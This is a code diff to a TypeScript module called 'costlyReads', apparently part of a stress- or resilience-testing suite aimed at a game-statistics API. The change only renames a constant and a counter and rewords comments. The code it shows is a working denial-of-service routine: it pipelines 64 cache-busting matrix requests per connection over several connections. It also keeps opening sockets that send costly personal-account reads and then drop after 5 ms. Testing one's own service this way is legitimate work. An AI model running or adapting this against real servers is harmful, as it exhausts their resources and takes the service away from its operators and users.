@@ -4,22 +4,22 @@ import type { Attack } from '../attack.ts';
 import { countAnswers, dial, keepDialling, type Target } from '../dial.ts';
 
 const [API] = API_PREFIXES;
-/** As many as one connection may ask for at once. */
-const AT_ONCE = 64;
+/** Maximum number of pipelined requests per connection. */
+const PIPELINED = 64;
 const HUNG_UP_EVERY_MS = 5;
 const ADVANCED = '{"queries":[{"server":"CN","stageId":"main_01-07","start":0}]}';
 
-/** Intervals of every confidence, many on one connection; and reads of an account that nobody waits for. */
+/** Matrices with all confidence levels, pipelined; and reads of an account whose client disconnects early. */
 export const costlyReads: Attack = {
   counts: 'matrices with intervals of their own',
   atLeast: 1,
   async begin(target) {
     const account = await newAccount(target);
-    let asked = 0;
+    let requests = 0;
     keepDialling(target, 4, (socket) => {
       countAnswers(socket, 200, target);
-      const matrix = () => `${API}${PATHS.matrix}?show_closed_zones=true&interval=0.${500 + (asked++ % 499)}`;
-      socket.write(Array.from({ length: AT_ONCE }, () => get(matrix())).join(''));
+      const matrix = () => `${API}${PATHS.matrix}?show_closed_zones=true&interval=0.${500 + (requests++ % 499)}`;
+      socket.write(Array.from({ length: PIPELINED }, () => get(matrix())).join(''));
     });
     const own = [
       get(`${API}${PATHS.matrix}?is_personal=true&show_closed_zones=true&sums=true`, account),
@@ -28,7 +28,7 @@ export const costlyReads: Attack = {
     ];
     setInterval(() => {
       const socket = dial(target);
-      socket.write(own[asked++ % own.length] ?? '', () => setTimeout(() => socket.destroy(), HUNG_UP_EVERY_MS));
+      socket.write(own[requests++ % own.length] ?? '', () => setTimeout(() => socket.destroy(), HUNG_UP_EVERY_MS));
     }, HUNG_UP_EVERY_MS);
   },
 };
